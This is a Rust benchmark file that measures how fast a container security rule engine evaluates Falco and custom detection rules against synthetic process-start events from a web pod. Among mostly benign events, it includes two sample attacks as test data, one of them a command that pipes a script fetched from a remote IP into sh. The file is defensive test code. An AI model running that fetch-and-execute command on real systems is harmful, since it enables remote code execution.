//! Benchmark: exec events per second through Falco's stable rules plus Podwarden's own, on one
//! core, with a realistic mix of process starts (mostly benign, a few attacks).
//!
//! Time is measured as this thread's CPU time (`CLOCK_THREAD_CPUTIME_ID`), so the figure is
//! per core even when other work shares the machine.
//!
//! Run: `cargo bench -p podwarden-rules --bench evaluate`. Needs `../shared/compat/falco/`.

#[path = "../../../bench/criterion_cpu_time.rs"]
mod criterion_cpu_time;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use criterion_cpu_time::CpuTime;
use podwarden_api::event::{Ancestor, Container, Event, EventBody, FdInfo, FdKind, Process};
use podwarden_rules::{CompileOptions, RuleSet, RuleSource};
use std::hint::black_box;

fn process(exe: &str, argv: &[&str], parents: &[(&str, &[&str])]) -> Process {
    let mut p = Process::new(1234, exe, argv);
    p.ppid = 1000;
    p.uid = 33;
    p.user = Some("www-data".to_string());
    p.gid = 33;
    p.group = Some("www-data".to_string());
    p.cwd = "/var/www/html".to_string();
    p.start_ts = 1_699_999_999_000_000_000;
    p.cap_effective = Some(0);
    let pipe = FdInfo {
        kind: FdKind::Pipe,
        target: "pipe:[4242]".to_string(),
        connection: None,
    };
    p.stdin = Some(pipe.clone());
    p.stdout = Some(pipe.clone());
    p.stderr = Some(pipe);
    for (i, (exe, argv)) in parents.iter().enumerate() {
        p.ancestors.push(Ancestor::new(1000 - i as u32, exe, argv));
    }
    p
}

fn exec(exe: &str, argv: &[&str], parents: &[(&str, &[&str])]) -> Event {
    Event {
        v: 1,
        id: 1,
        ts: 1_700_000_000_000_000_000,
        container: Some(Container {
            id: "3f2a9c1b7d4e5f60718293a4b5c6d7e8".to_string(),
            name: Some("app".to_string()),
            image: Some("registry.example/shop/web:1.4".to_string()),
            pod: Some("web-0".to_string()),
            namespace: Some("shop".to_string()),
            ..Container::default()
        }),
        body: EventBody::ProcessExec {
            process: process(exe, argv, parents),
        },
    }
}

/// A day in a web pod: entrypoint scripts, health checks, PHP workers, cron jobs, and a
/// few attacks (about 1 event in 8).
fn corpus() -> Vec<Event> {
    let tini: (&str, &[&str]) = ("/usr/bin/tini", &["tini", "--", "docker-entrypoint.sh"]);
    let fpm: (&str, &[&str]) = ("/usr/sbin/php-fpm8.2", &["php-fpm: pool www"]);
    let fpm_master: (&str, &[&str]) = ("/usr/sbin/php-fpm8.2", &["php-fpm: master process"]);
    let runc: (&str, &[&str]) = ("/usr/bin/runc", &["runc", "init"]);
    let bash: (&str, &[&str]) = ("/bin/bash", &["bash", "/docker-entrypoint.sh"]);
    let cron: (&str, &[&str]) = ("/usr/sbin/cron", &["cron", "-f"]);
    vec![
        exec(
            "/bin/sh",
            &["sh", "-c", "/usr/local/bin/healthcheck"],
            &[runc],
        ),
        exec(
            "/usr/local/bin/healthcheck",
            &["/usr/local/bin/healthcheck"],
            &[("/bin/sh", &["sh", "-c", "x"]), runc],
        ),
        exec(
            "/usr/bin/curl",
            &["curl", "-fsS", "http://127.0.0.1:8080/healthz"],
            &[runc],
        ),
        exec(
            "/usr/sbin/php-fpm8.2",
            &["php-fpm: pool www"],
            &[fpm_master, tini],
        ),
        exec(
            "/usr/bin/convert",
            &[
                "convert",
                "/tmp/up.png",
                "-resize",
                "200x200",
                "/var/www/html/thumb.png",
            ],
            &[fpm, fpm_master, tini],
        ),
        exec("/bin/ls", &["ls", "-la", "/var/www/html"], &[bash, tini]),
        exec(
            "/usr/bin/find",
            &["find", "/var/www/html/cache", "-mtime", "+7", "-delete"],
            &[("/bin/sh", &["sh", "-c", "find"]), cron, tini],
        ),
        exec(
            "/usr/bin/python3",
            &["python3", "/app/manage.py", "clearsessions"],
            &[("/bin/sh", &["sh", "-c", "python3"]), cron, tini],
        ),
        exec("/bin/cat", &["cat", "/etc/os-release"], &[bash, tini]),
        exec(
            "/usr/bin/gzip",
            &["gzip", "-9", "/var/log/app/access.log.1"],
            &[
                ("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]),
                cron,
                tini,
            ],
        ),
        exec(
            "/usr/bin/env",
            &["env", "php", "artisan", "schedule:run"],
            &[bash, tini],
        ),
        exec(
            "/usr/bin/grep",
            &["grep", "-c", "ERROR", "/var/log/app/app.log"],
            &[bash, tini],
        ),
        exec(
            "/usr/bin/sed",
            &["sed", "-i", "s/x/y/", "/etc/nginx/conf.d/default.conf"],
            &[bash, tini],
        ),
        exec("/usr/sbin/nginx", &["nginx", "-g", "daemon off;"], &[tini]),
        // Attacks.
        exec(
            "/bin/sh",
            &["sh", "-c", "id; uname -a"],
            &[fpm, fpm_master, tini],
        ),
        exec(
            "/bin/sh",
            &["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"],
            &[fpm, fpm_master, tini],
        ),
    ]
}

fn rules() -> RuleSet {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/compat/falco/falco_rules.yaml"
    );
    let falco =
        std::fs::read_to_string(path).unwrap_or_else(|err| panic!("cannot read {path}: {err}"));
    let mut sources = RuleSet::builtin_sources();
    sources.push(RuleSource::new("falco_rules.yaml", falco));
    let (set, _) = RuleSet::compile(&sources, &CompileOptions::default());
    set
}

fn bench(c: &mut Criterion<CpuTime>) {
    let started = std::time::Instant::now();
    let set = rules();
    let compiled_in = started.elapsed();
    let events = corpus();
    let summary = set.summary();
    eprintln!(
        "rules running: {} ({} for execve), compiled in {compiled_in:.1?}; corpus: {} exec events",
        summary.enabled,
        set.rules_for_event_type("execve").len(),
        events.len()
    );
    let mut group = c.benchmark_group("evaluate");
    group.throughput(Throughput::Elements(events.len() as u64));
    group.bench_function("exec_mix_falco_stable_plus_own", |b| {
        b.iter(|| {
            let mut matches = 0usize;
            for event in &events {
                set.evaluate(black_box(event), &mut |_| matches += 1);
            }
            black_box(matches)
        })
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().with_measurement(CpuTime::with_throughput_label("M/s (per cpu-second)"));
    targets = bench
}
criterion_main!(benches);
